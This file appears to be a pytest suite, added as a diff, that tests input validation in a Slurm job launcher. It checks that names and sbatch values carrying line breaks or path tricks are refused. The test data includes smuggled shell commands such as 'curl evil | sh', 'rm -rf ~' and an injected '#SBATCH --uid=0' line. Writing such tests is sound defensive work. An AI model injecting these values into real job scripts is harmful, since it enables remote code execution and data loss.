@@ -1,0 +1,107 @@
+"""Issue 16 D: names and values that reach folder names and the job script. A name outside the safe set, an sbatch
+option name that is not one, a line break in an #SBATCH value: each is refused with exit 2 and one line naming the
+key, before anything is written or submitted. The job folder is private (0700, this user's) since the job unpickles
+its config from it."""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from normia.errors import UserError
+from normia.launch.spec import parse_launcher
+
+OFFLINE = [
+    "experiment=quickstart",
+    "launcher=slurm",
+    "launcher.query_cluster=false",
+    "trainer.enable_progress_bar=false",
+]
+
+
+@pytest.fixture(autouse=True)
+def _in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.delenv("NORMIA_OUTPUT_ROOT", raising=False)
+
+
+def cli(*argv: str) -> tuple[int, str]:
+    from normia.cli import main
+
+    buffer = io.StringIO()
+    with contextlib.redirect_stdout(buffer), contextlib.redirect_stderr(buffer):
+        code = main(list(argv))
+    return code, buffer.getvalue()
+
+
+def assert_refused(code: int, text: str, fragment: str) -> None:
+    assert code == 2, text
+    lines = text.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: ") and fragment in lines[0], text
+    assert list(Path.cwd().iterdir()) == [], "a refused request wrote files"
+
+
+@pytest.mark.parametrize("name", ["../../x", "a/b", ".hidden", "-rf", "x..y", "a b"])
+def test_unsafe_job_name_is_refused_before_the_slurm_script(name: str) -> None:
+    code, text = cli("train", *OFFLINE, f"name='{name}'", "--dry-run")
+    assert_refused(code, text, "name=")
+
+
+def test_newline_in_a_name_would_break_out_of_the_job_name_line() -> None:
+    """From a shared YAML file a name can hold a real line break: '#SBATCH --job-name=x' then a shell command."""
+    from omegaconf import OmegaConf
+
+    from normia.launch.slurm import submit
+
+    cfg = OmegaConf.create({"name": "x\ntouch /tmp/pwned", "launcher": {"name": "slurm"}, "overrides": []})
+    with pytest.raises(UserError, match="name="):
+        submit([cfg], [], dry_run=True)
+
+
+@pytest.mark.parametrize(
+    ("launcher", "fragment"),
+    [
+        ({"sbatch_args": {"x\n#SBATCH --uid=0 y": 1}}, "launcher.sbatch_args key"),
+        ({"sbatch_args": {"comment": "ok\nrm -rf ~"}}, "launcher.sbatch_args.comment holds a line break"),
+        ({"partition": "gpu\ncurl evil | sh"}, "launcher.partition holds a line break"),
+        ({"account": "a\rb"}, "launcher.account holds a line break"),
+        ({"srun_args": ["--x\nid"]}, "launcher.srun_args[0]"),
+        ({"env": {"A B": "1"}}, "launcher.env key"),
+    ],
+)
+def test_script_values_with_line_breaks_or_bad_names_are_refused(launcher: dict, fragment: str) -> None:
+    with pytest.raises(UserError, match=fragment.replace("[", r"\[").replace("]", r"\]")):
+        parse_launcher(launcher)
+
+
+def test_sbatch_args_key_with_space_is_refused_through_the_cli() -> None:
+    code, text = cli("train", *OFFLINE, "+launcher.sbatch_args={mail type: END}", "--dry-run")
+    assert_refused(code, text, "launcher.sbatch_args key")
+
+
+def test_job_folder_is_created_private_and_one_of_another_user_or_a_link_is_refused(tmp_path: Path) -> None:
+    from normia.launch.slurm import private_folder
+
+    mine = tmp_path / "out" / "slurm"
+    private_folder(mine)
+    assert stat.S_IMODE(os.lstat(mine).st_mode) == 0o700
+    loose = tmp_path / "loose"
+    loose.mkdir(mode=0o777)
+    os.chmod(loose, 0o777)
+    private_folder(loose)  # ours: made private
+    assert stat.S_IMODE(os.lstat(loose).st_mode) == 0o700
+    link = tmp_path / "link"
+    link.symlink_to(loose)
+    with pytest.raises(UserError, match="not a folder"):
+        private_folder(link)
+    if os.geteuid() == 0:  # root can make a folder that belongs to someone else
+        theirs = tmp_path / "theirs"
+        theirs.mkdir()
+        os.chown(theirs, 65534, 65534)
+        with pytest.raises(UserError, match="belongs to another user"):
+            private_folder(theirs)
